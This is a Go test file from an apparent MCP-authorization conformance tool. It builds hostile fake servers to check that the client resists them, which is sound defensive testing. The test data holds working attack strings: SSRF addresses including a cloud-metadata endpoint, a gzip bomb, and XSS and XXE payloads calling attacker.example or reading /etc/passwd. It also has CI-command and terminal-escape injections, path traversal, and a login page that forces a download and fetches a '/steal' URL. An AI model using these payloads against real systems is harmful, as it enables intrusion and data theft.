@@ -1,0 +1,644 @@
+package hostile
+
+import (
+	"compress/gzip"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"sync/atomic"
+	"time"
+
+	"github.com/mcpauth/conformance/fakes/mcpserver"
+	"github.com/mcpauth/conformance/fakes/reference"
+)
+
+// Traps are all traps, in the order of the promises.
+var Traps = []Trap{
+	{Name: "private addresses", Promise: "addresses that are not public are not dialled, whatever names them", Start: privateAddresses},
+	{Name: "credentials elsewhere", Promise: "no redirect carries a credential to another origin", Start: credentialsElsewhere},
+	{Name: "redirects without end", Promise: "redirects are answers, not followed", Start: redirects},
+	{Name: "slow answers", Promise: "a run ends at its time, whatever trickles in", Start: slow},
+	{Name: "bombs", Promise: "bodies are bounded, after decompression too: at most 128 MiB of memory", Start: bombs},
+	{Name: "giant headers", Promise: "header fields are bounded", Start: giantHeaders},
+	{Name: "odd JSON", Promise: "JSON is bounded in depth and members; duplicates and odd cases are findings", Start: oddJSON},
+	{Name: "endless streams", Promise: "event streams are bounded", Start: endless},
+	{Name: "rate", Promise: "the stated rate and concurrency are kept", Start: rate},
+	{Name: "budget", Promise: "the request limit is a hard stop", Start: budget},
+	{Name: "side effects", Promise: "clients are deleted again, and no undeclared tool is called", Start: sideEffects},
+	{Name: "control characters", Promise: "nothing of a target controls a terminal or a CI system", Start: controlCharacters},
+	{Name: "markup", Promise: "nothing of a target acts in HTML, Markdown, XML or JSON", Start: markup},
+	{Name: "paths in names", Promise: "no file is written but the reports", Start: paths},
+	{Name: "secrets", Promise: "no secret is in any output, in any spelling", Start: secrets},
+	{Name: "foreign schemes", Promise: "javascript: and file: endpoints are text", Start: schemes},
+	{Name: "10,000 keys", Promise: "a huge key set is bounded", Start: manyKeys},
+	{Name: "lengths that lie", Promise: "answers that are cut short, too long or doubled are no answers", Start: lengths},
+	{Name: "dies in the middle", Promise: "a target that dies leaves no green run", Start: dies},
+	{Name: "interrupt", Promise: "an interrupted run says so, with a whole report", Start: interrupt},
+	{Name: "login pages that attack", Promise: "dialogs, downloads, windows and other schemes come to nothing", Start: loginPages, Browser: true},
+}
+
+const password = "alice-7-looking-glass"
+
+// signedIn are the arguments of a run that signs in by plain forms and judges the token endpoint.
+func signedIn(r *reference.Reference, more ...string) ([]string, []string) {
+	return append([]string{"run", r.URL, "--username", "alice", "--login", "form", "--timeout", "8s"}, more...), []string{"MCPAUTH_PASSWORD=" + password}
+}
+
+func privateAddresses() (*Attack, error) {
+	trap, err := listen("127.0.0.2:0")
+	if err != nil {
+		return nil, err
+	}
+	port := trap.Addr().(interface{ String() string }).String()
+	port = port[strings.LastIndexByte(port, ':')+1:]
+	r, err := bend(func(o *reference.Options) {
+		o.Host = "mcp.example.com"
+		o.Policy.PRM = func(_ string, doc map[string]any) {
+			doc["authorization_servers"] = []string{"http://127.0.0.2:" + port, "http://[::ffff:127.0.0.2]:" + port, "http://2130706434:" + port, "http://0x7f000002:" + port, "http://169.254.169.254/latest"}
+			doc["jwks_uri"], doc["resource_documentation"] = "http://127.0.0.2:"+port+"/jwks", "http://127.0.0.2:"+port+"/docs"
+		}
+	})
+	if err != nil {
+		trap.stop()
+		return nil, err
+	}
+	args := []string{"run", r.URL, "--timeout", "8s", "--allow-intrusive=false"}
+	for from, to := range r.ConnectTo {
+		args = append(args, "--connect-to", from+"="+to)
+	}
+	return &Attack{Args: args, Close: func() { r.Close(); trap.stop() }, Judge: func(o Outcome) error {
+		if n := trap.connections(); n > 0 {
+			return fmt.Errorf("%d connections to a private address", n)
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+func credentialsElsewhere() (*Attack, error) {
+	trap, err := listen("127.0.0.1:0")
+	if err != nil {
+		return nil, err
+	}
+	elsewhere := "http://" + trap.Addr().String()
+	var turn atomic.Int64
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			credential := req.Header.Get("Authorization") != "" || req.Method == http.MethodPost && req.URL.Path == "/token"
+			if credential {
+				w.Header().Set("Location", elsewhere+req.URL.Path)
+				w.WriteHeader([]int{301, 302, 303, 307, 308}[turn.Add(1)%5])
+				return
+			}
+			h.ServeHTTP(w, req)
+		})
+	})
+	if err != nil {
+		trap.stop()
+		return nil, err
+	}
+	args, env := signedIn(r, "--only", "RS-TOKEN-*", "--only", "RS-CHALLENGE-*", "--only", "AS-TOKEN-SUCCESS-SHAPE")
+	return &Attack{Args: args, Environment: env, Close: func() { r.Close(); trap.stop() }, Judge: func(o Outcome) error {
+		if got := trap.received(); got != "" {
+			return fmt.Errorf("another origin got %.200q", got)
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+func redirects() (*Attack, error) {
+	var n atomic.Int64
+	r, err := wrapped(func(http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			n.Add(1)
+			http.Redirect(w, req, req.URL.Path+"x", http.StatusFound)
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		if n.Load() > 600 {
+			return fmt.Errorf("%d requests: redirects are followed", n.Load())
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+// slow sends a byte now and then: in the header of some answers, in the body of others.
+func slow() (*Attack, error) {
+	r, err := wrapped(func(http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			w.Header().Set("Content-Type", "application/json")
+			if len(req.URL.Path)%2 == 0 {
+				w.WriteHeader(http.StatusOK)
+			}
+			for range 40 {
+				select {
+				case <-req.Context().Done():
+					return
+				case <-time.After(500 * time.Millisecond):
+				}
+				_, _ = io.WriteString(w, " ")
+				_ = http.NewResponseController(w).Flush()
+			}
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "3s"}, Close: r.Close, Judge: func(o Outcome) error {
+		return errors.Join(within(o, 6*time.Second), notGreen(o))
+	}}, nil
+}
+
+// zeros is a body of many zeros, compressed.
+func zeros(w io.Writer, n int) {
+	z := gzip.NewWriter(w)
+	block := make([]byte, 1<<20)
+	for range n >> 20 {
+		if _, err := z.Write(block); err != nil {
+			return
+		}
+	}
+	_ = z.Close()
+}
+
+func bombs() (*Attack, error) {
+	r, err := wrapped(func(http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			w.Header().Set("Content-Type", "application/json")
+			if strings.Contains(req.URL.Path, "well-known") {
+				w.Header().Set("Content-Encoding", "gzip")
+				zeros(w, 64<<20)
+				return
+			}
+			block := strings.Repeat("x", 1<<16)
+			for range 256 { // 16 MiB
+				if _, err := io.WriteString(w, block); err != nil {
+					return
+				}
+			}
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		return errors.Join(lean(o, 128<<20), notGreen(o))
+	}}, nil
+}
+
+func giantHeaders() (*Attack, error) {
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			for i := range 64 {
+				w.Header().Set(fmt.Sprintf("X-Filler-%d", i), strings.Repeat("y", 1<<15)) // 2 MiB in all
+			}
+			h.ServeHTTP(w, req)
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		if strings.Contains(o.All(), strings.Repeat("y", 1<<14)) {
+			return errors.New("a field of 32 KiB is in an output")
+		}
+		return errors.Join(lean(o, 128<<20), notGreen(o))
+	}}, nil
+}
+
+func oddJSON() (*Attack, error) {
+	deep := strings.Repeat(`{"a":`, 50_000) + "1" + strings.Repeat("}", 50_000)
+	wide := "{" + strings.Repeat(`"k":1,`, 40_000) + `"k":1}`
+	var turn atomic.Int64
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			if req.Method != http.MethodGet {
+				h.ServeHTTP(w, req)
+				return
+			}
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, []string{deep, wide, `{"resource":1e999999,"authorization_servers":{"a":[]},"Resource":null}`, "\ufeff{}", `{"issuer":"\ud800"}`, "[]", "null", "{} {}"}[turn.Add(1)%8])
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		return errors.Join(lean(o, 128<<20), notGreen(o))
+	}}, nil
+}
+
+func endless() (*Attack, error) {
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			if req.URL.Path != "/mcp" {
+				h.ServeHTTP(w, req)
+				return
+			}
+			w.Header().Set("Content-Type", "text/event-stream")
+			for i := range 200_000 {
+				if _, err := fmt.Fprintf(w, "id: %d\ndata: {\"jsonrpc\":\"2.0\",\"method\":\"notifications/message\"}\n\n", i); err != nil || req.Context().Err() != nil {
+					return
+				}
+			}
+			<-req.Context().Done()
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "6s"}, Close: r.Close, Judge: func(o Outcome) error {
+		return errors.Join(within(o, 10*time.Second), lean(o, 160<<20), notGreen(o))
+	}}, nil
+}
+
+func rate() (*Attack, error) {
+	g := &gauge{}
+	r, err := wrapped(g.wrap)
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--rate", "40", "--concurrency", "3", "--timeout", "3s"}, Close: r.Close, Judge: func(o Outcome) error {
+		if n := g.busiest(); n > 44 { // a tenth for clocks that differ
+			return fmt.Errorf("%d requests in a second, where 40 were allowed", n)
+		}
+		if n := g.most.Load(); n > 3 {
+			return fmt.Errorf("%d requests at once, where 3 were allowed", n)
+		}
+		if g.all.Load() < 40 {
+			return errors.New("the run sent next to nothing")
+		}
+		return nil
+	}}, nil
+}
+
+func budget() (*Attack, error) {
+	var all atomic.Int64
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			if req.Method != http.MethodDelete { // what was registered is deleted all the same
+				all.Add(1)
+			}
+			h.ServeHTTP(w, req)
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--max-requests", "50", "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		if n := all.Load(); n > 50 {
+			return fmt.Errorf("%d requests, where 50 were allowed", n)
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+func sideEffects() (*Attack, error) {
+	var called atomic.Int64
+	names := regexp.MustCompile(`"method"\s*:\s*"tools/call"`)
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			body, _ := io.ReadAll(io.LimitReader(req.Body, 1<<20))
+			req.Body = io.NopCloser(strings.NewReader(string(body)))
+			if names.Match(body) {
+				for _, t := range mcpserver.Tools {
+					if strings.Contains(string(body), `"`+t.Name+`"`) {
+						called.Add(1)
+					}
+				}
+			}
+			h.ServeHTTP(w, req)
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	args, env := signedIn(r, "--only", "AS-DCR-*", "--only", "RS-*")
+	return &Attack{Args: args, Environment: env, Close: r.Close, Judge: func(o Outcome) error {
+		switch {
+		case called.Load() > 0:
+			return fmt.Errorf("%d calls of tools that nobody declared", called.Load())
+		case r.IDP.Clients() > 0:
+			return fmt.Errorf("%d clients are left behind", r.IDP.Clients())
+		case o.Code != 0:
+			return fmt.Errorf("exit %d on a server that is right: %.300s", o.Code, o.Stderr)
+		}
+		return nil
+	}}, nil
+}
+
+// speaks has the server put a text into every string that is shown.
+func speaks(text string) (*reference.Reference, error) {
+	return bend(func(o *reference.Options) {
+		p, b := &o.Policy, &o.Behaviour
+		p.Challenge = func(_, _ string) []string {
+			safe := strings.Map(func(c rune) rune {
+				if c < ' ' && c != '\t' || c == 0x7f {
+					return '?'
+				}
+				return c
+			}, text)
+			return []string{`Bearer realm="` + strings.ReplaceAll(strings.ReplaceAll(safe, `\`, `\\`), `"`, `\"`) + `", error="` + strings.ReplaceAll(strings.ReplaceAll(safe, `\`, `\\`), `"`, `\"`) + `"`}
+		}
+		p.PRM = func(_ string, doc map[string]any) {
+			doc["resource"], doc["resource_name"], doc["scopes_supported"] = text, text, []string{text}
+			doc[text] = text
+		}
+		b.Metadata = func(_ string, doc map[string]any) {
+			doc["scopes_supported"], doc["op_policy_uri"], doc["service_documentation"] = []string{text}, text, text
+			doc[text] = text
+		}
+		p.Status = http.StatusPaymentRequired
+		p.Capabilities = map[string]any{text: text}
+	})
+}
+
+const nasty = "\x1b[2J\x1b]0;pwned\x07\n::error::pwned\n##vso[task.complete]\n##teamcity[x]\n\u202egnp.exe\u200b\u2066\x00\x9b31m%0A::set-output name=x::y"
+
+func controlCharacters() (*Attack, error) {
+	r, err := speaks(nasty)
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--verbose", "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		for where, text := range map[string]string{"standard error": o.Stderr, "standard output": o.Stdout, "the JUnit report": o.Reports["junit"], "the page": o.Reports["html"], "the summary": o.Reports["markdown"]} {
+			if i := strings.IndexFunc(text, func(c rune) bool {
+				return c < ' ' && c != '\n' && c != '\t' && c != '\r' || c >= 0x7f && c < 0xa0 || c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069
+			}); i >= 0 {
+				return fmt.Errorf("%s holds the character %q", where, text[i:min(len(text), i+4)])
+			}
+			if where == "the page" { // which no CI system reads
+				continue
+			}
+			for _, line := range strings.Split(text, "\n") {
+				if strings.HasPrefix(line, "::") || strings.HasPrefix(line, "##vso") || strings.HasPrefix(line, "##teamcity") {
+					return fmt.Errorf("a line of %s is a command: %.100q", where, line)
+				}
+			}
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+const payload = `</script><script>alert(1)</script><img src=http://attacker.example/x onerror=alert(1)>![x](http://attacker.example/y)[z](javascript:alert(1))]]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;` + "`|${{ secrets.X }}"
+
+var acts = regexp.MustCompile(`(?i)<(img|iframe|link|object|embed|form|base|meta\s+http-equiv="refresh)[^>]*attacker|<[a-z]+[^<>]*\son[a-z]+\s*=`)
+
+func markup() (*Attack, error) {
+	r, err := speaks(payload)
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		page := o.Reports["html"]
+		if strings.Count(page, "<script") != 1 || acts.MatchString(page) {
+			return errors.New("the page holds an element of the target")
+		}
+		if md := outsideCode(o.Reports["markdown"]); strings.Contains(md, "![x](http") || strings.Contains(md, "<img") || strings.Contains(md, "[z](javascript:") {
+			return errors.New("the summary holds markup of the target")
+		}
+		for dec := xml.NewDecoder(strings.NewReader(o.Reports["junit"])); ; {
+			if _, err := dec.Token(); errors.Is(err, io.EOF) {
+				break
+			} else if err != nil {
+				return fmt.Errorf("the JUnit report: %w", err)
+			}
+		}
+		for _, name := range []string{"json", "sarif", "har"} {
+			if !json.Valid([]byte(o.Reports[name])) {
+				return fmt.Errorf("the %s report is no JSON", name)
+			}
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+// outsideCode is a Markdown text without its code spans, which nothing in them can end or act in.
+func outsideCode(md string) string {
+	var out strings.Builder
+	for md != "" {
+		i := strings.IndexByte(md, '`')
+		if i < 0 {
+			break
+		}
+		out.WriteString(md[:i])
+		fence := md[i:][:len(md[i:])-len(strings.TrimLeft(md[i:], "`"))]
+		rest := md[i+len(fence):]
+		end := 0
+		for { // the next run of as many backticks
+			k := strings.Index(rest[end:], fence)
+			if k < 0 {
+				return out.String() + rest
+			}
+			end += k
+			run := len(rest[end:]) - len(strings.TrimLeft(rest[end:], "`"))
+			if run == len(fence) {
+				break
+			}
+			end += run
+		}
+		md = rest[end+len(fence):]
+	}
+	return out.String() + md
+}
+
+func paths() (*Attack, error) {
+	r, err := speaks("../../../../tmp/mcpauth-escaped/../x\x00.html")
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		if len(o.Strays) > 0 {
+			return fmt.Errorf("files were written that are no reports: %v", o.Strays)
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+// secrets has the server say back what it was sent, in other spellings too.
+func secrets() (*Attack, error) {
+	canary := "canary-7Hq2xZ9vLm4KpW8sTfBd"
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			if a := req.Header.Get("Authorization"); strings.Contains(a, canary) && req.Method == http.MethodPost {
+				for name, value := range spellings(a) {
+					w.Header().Set("X-Echo-"+name, value)
+				}
+				w.Header().Set("Content-Type", "application/json")
+				body, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "error": map[string]any{"code": -32000, "message": a, "data": spellings(a)}}) // strings
+				w.WriteHeader(http.StatusTeapot)
+				_, _ = w.Write(body)
+				return
+			}
+			h.ServeHTTP(w, req)
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--token-env", "CANARY", "--verbose", "--timeout", "8s"}, Environment: []string{"CANARY=" + canary}, Close: r.Close, Judge: func(o Outcome) error {
+		all := o.All()
+		for name, value := range spellings(canary) {
+			if strings.Contains(all, value) {
+				return fmt.Errorf("the token is in an output, %s", name)
+			}
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+func spellings(s string) map[string]string {
+	return map[string]string{
+		"Raw": s, "Query": url.QueryEscape(s), "Hex": hex.EncodeToString([]byte(s)), "Base64": strings.TrimRight(base64.StdEncoding.EncodeToString([]byte(s)), "="),
+		"Base64url": base64.RawURLEncoding.EncodeToString([]byte(s)),
+	}
+}
+
+func schemes() (*Attack, error) {
+	r, err := bend(func(o *reference.Options) {
+		o.Behaviour.Metadata = func(_ string, doc map[string]any) {
+			doc["authorization_endpoint"], doc["token_endpoint"] = "javascript:alert(document.cookie)", "file:///etc/passwd"
+			doc["registration_endpoint"], doc["jwks_uri"] = "gopher://127.0.0.1:25/x", "data:application/json,{}"
+		}
+	})
+	if err != nil {
+		return nil, err
+	}
+	args, env := signedIn(r)
+	return &Attack{Args: args, Environment: env, Close: r.Close, Judge: func(o Outcome) error {
+		if strings.Contains(o.All(), "root:x:0:0") || strings.Contains(o.Reports["html"], `href="javascript:`) {
+			return errors.New("a foreign scheme was used")
+		}
+		return notGreen(o)
+	}}, nil
+}
+
+func manyKeys() (*Attack, error) {
+	r, err := bend(func(o *reference.Options) {
+		o.Behaviour.JWKS = func(doc map[string]any) {
+			keys, _ := doc["keys"].([]any)
+			for i := range 10_000 {
+				keys = append(keys, map[string]any{"kty": "RSA", "kid": fmt.Sprint(i), "n": strings.Repeat("A", 342), "e": "AQAB"})
+			}
+			doc["keys"] = keys
+		}
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
+		return errors.Join(lean(o, 128<<20), notGreen(o))
+	}}, nil
+}
+
+// lengths writes answers by hand whose Content-Length is not that of the body, and two in place of one.
+func lengths() (*Attack, error) {
+	var turn atomic.Int64
+	r, err := wrapped(func(http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+			conn, buffered, err := http.NewResponseController(w).Hijack()
+			if err != nil {
+				return
+			}
+			defer conn.Close()
+			const good = `{"resource":"x"}`
+			_, _ = buffered.WriteString([]string{
+				"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4096\r\n\r\n" + good,
+				"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4\r\n\r\n" + good,
+				"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 16\r\n\r\n" + good,
+				"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n" + good,
+				"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}",
+				"HTTP/9.9 99999 ???\r\n\r\n",
+			}[turn.Add(1)%6])
+			_ = buffered.Flush()
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: notGreen}, nil
+}
+
+// dies answers for a while, and then never again.
+func dies() (*Attack, error) {
+	var n atomic.Int64
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			if n.Add(1) > 60 {
+				panic(http.ErrAbortHandler)
+			}
+			h.ServeHTTP(w, req)
+		})
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: notGreen}, nil
+}
+
+func interrupt() (*Attack, error) {
+	r, err := bend(func(o *reference.Options) { o.Delay = 200 * time.Millisecond })
+	if err != nil {
+		return nil, err
+	}
+	args, env := signedIn(r)
+	return &Attack{Args: args, Environment: env, Close: r.Close, After: func(p Process) {
+		time.Sleep(700 * time.Millisecond)
+		_ = p.Interrupt() // it may be over
+	}, Judge: func(o Outcome) error {
+		if o.Code != 130 || !strings.Contains(o.Reports["json"], `"interrupted": true`) {
+			return fmt.Errorf("exit %d, and the report does not say that the run was interrupted", o.Code)
+		}
+		return nil
+	}}, nil
+}
+
+// loginPages opens dialogs, windows and downloads, sends the browser to other schemes, and never comes to an end.
+func loginPages() (*Attack, error) {
+	trap, err := listen("127.0.0.2:0")
+	if err != nil {
+		return nil, err
+	}
+	page := `<!doctype html><title>Sign in</title><script>
+alert("a dialog"); confirm("another"); window.onbeforeunload=()=>"stay";
+for(let i=0;i<3;i++)window.open("about:blank");
+const a=document.createElement("a");a.href=URL.createObjectURL(new Blob(["pwned"]));a.download="pwned.exe";document.documentElement.append(a);a.click();
+location.href="mailto:pwned@attacker.example";
+fetch("http://` + trap.Addr().String() + `/steal").catch(()=>{});
+new Image().src="file:///etc/passwd";
+</script><p>Loading</p>`
+	r, err := wrapped(func(h http.Handler) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+			if req.URL.Path == "/authorize" {
+				w.Header().Set("Content-Type", "text/html")
+				_, _ = io.WriteString(w, page)
+				return
+			}
+			h.ServeHTTP(w, req)
+		})
+	}, func(o *reference.Options) { o.Behaviour.Pages = "javascript" })
+	if err != nil {
+		trap.stop()
+		return nil, err
+	}
+	args := []string{"run", r.URL, "--username", "alice", "--login", "browser", "--browser-no-sandbox", "--timeout", "9s", "--only", "AS-TOKEN-SUCCESS-SHAPE"}
+	return &Attack{Args: args, Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: func() { r.Close(); trap.stop() }, Judge: func(o Outcome) error {
+		if strings.Contains(o.All(), password) {
+			return errors.New("the password is in an output")
+		}
+		if len(o.Strays) > 0 {
+			return fmt.Errorf("something was downloaded: %v", o.Strays)
+		}
+		return errors.Join(within(o, 14*time.Second), notGreen(o))
+	}}, nil
+}
